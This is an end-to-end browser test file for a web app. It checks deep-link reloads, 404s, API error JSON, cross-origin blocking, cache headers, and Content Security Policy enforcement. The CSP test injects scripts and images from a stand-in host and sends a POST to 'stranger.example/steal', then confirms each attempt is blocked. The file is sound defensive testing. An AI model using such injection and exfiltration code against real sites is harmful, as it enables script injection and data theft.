/* eslint-env browser */
/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { siteOf } from './published.mjs';

const site = ({ sites }, toolchain) => siteOf(sites, toolchain);

/** @type {import('../tell.mjs').Story} */
export const deepLinks = {
  name: 'RB9b a deep link and its reload show their page, a missing asset is 404',
  async tell({ browser, sites }) {
    for (const { host } of sites) {
      const { page, problems } = await browser.tab(`https://${host}/accounts/43`);
      await page.getByText('Tax reserve').first().waitFor();
      const answer = await page.reload();
      assert.equal(answer?.status(), 200, host);
      await page.getByText('Tax reserve').first().waitFor();
      assert.deepEqual(problems, [], host);
      const missing = await page.evaluate(async () => (await fetch('/assets/gone.js')).status);
      assert.equal(missing, 404, host);
      await page.close();
    }
  },
};

/** @type {import('../tell.mjs').Story} */
export const apiErrors = {
  name: 'RB10c an error of the API reaches the app as JSON, and a page of another origin reads no answer',
  async tell(world) {
    const { host, api, auth0 } = site(world, 'vite');
    const ask = async (/** @type {string} */ url) => {
      try {
        const answer = await fetch(url);
        return [answer.status, /** @type {any} */ (await answer.json()).error];
      } catch (error) {
        return [/** @type {Error} */ (error).name];
      }
    };
    const app = await world.browser.tab(`https://${host}/`);
    assert.deepEqual(await app.page.evaluate(ask, `https://${api}/api/gone`), [404, 'There is no /api/gone.']);
    await app.page.close();

    const stranger = await world.browser.tab(`https://${auth0.domain}/authorize`); // a page without a policy, of another origin
    assert.deepEqual(await stranger.page.evaluate(ask, `https://${api}/api/about`), ['TypeError']);
    await stranger.page.close();
  },
};

/** @type {import('../tell.mjs').Story} */
export const signedIn = {
  name: 'RB9e the policy lets a login by the Auth0 tenant through, and staff freeze an account; it blocks a stranger',
  async tell(world) {
    const { host } = site(world, 'vite');
    const { page, problems } = await world.browser.tab(`https://${host}/support`);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('button', { name: 'Continue as Robin Staff' }).click();
    await page.getByRole('button', { name: 'Sign out, Robin Staff' }).waitFor();
    await page.getByRole('button', { name: 'Freeze' }).first().click();
    await page.getByText('Account 42 is FROZEN').waitFor();
    assert.deepEqual(problems, []);

    const blocked = await page.evaluate(async () => {
      /** @type {string[]} */
      const violated = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void violated.push(effectiveDirective));
      const script = document.createElement('script');
      script.src = 'https://stranger.example/x.js';
      document.body.append(script);
      const image = new Image();
      image.src = 'https://stranger.example/x.png';
      const inline = document.createElement('script');
      inline.textContent = 'window.stranger = true';
      document.body.append(inline);
      await fetch('https://stranger.example/steal', { method: 'POST' }).catch(() => {});
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [violated.sort(), 'stranger' in window];
    });
    assert.deepEqual(blocked, [['connect-src', 'img-src', 'script-src-elem', 'script-src-elem'], false]);
    await page.close();
  },
};

/** @type {import('../tell.mjs').Story} */
export const cacheHeaders = {
  name: 'RB9c assets of Vite are immutable, its page and all of Flutter are revalidated',
  async tell(world) {
    const headersOf = async (host) => {
      const { page } = await world.browser.tab();
      /** @type {Record<string, string>} */
      const found = {};
      page.on('response', (answer) => {
        const { hostname, pathname } = new URL(answer.url());
        if (hostname === host) found[pathname] = answer.headers()['cache-control'];
      });
      await page.goto(`https://${host}/`, { waitUntil: 'networkidle' });
      await page.close();
      return Object.entries(found);
    };
    const vite = await headersOf(site(world, 'vite').host);
    const assets = vite.filter(([path]) => path.startsWith('/assets/'));
    assert.ok(assets.length >= 3, `${vite}`);
    assert.deepEqual(new Set(assets.map(([, value]) => value)), new Set(['public, max-age=31536000, immutable']));
    const others = [
      ...vite.filter((entry) => !assets.includes(entry)),
      ...(await headersOf(site(world, 'flutter').host)),
    ];
    assert.ok(others.length >= 4, `${others}`);
    assert.deepEqual(new Set(others.map(([, value]) => value)), new Set(['no-cache']));
  },
};
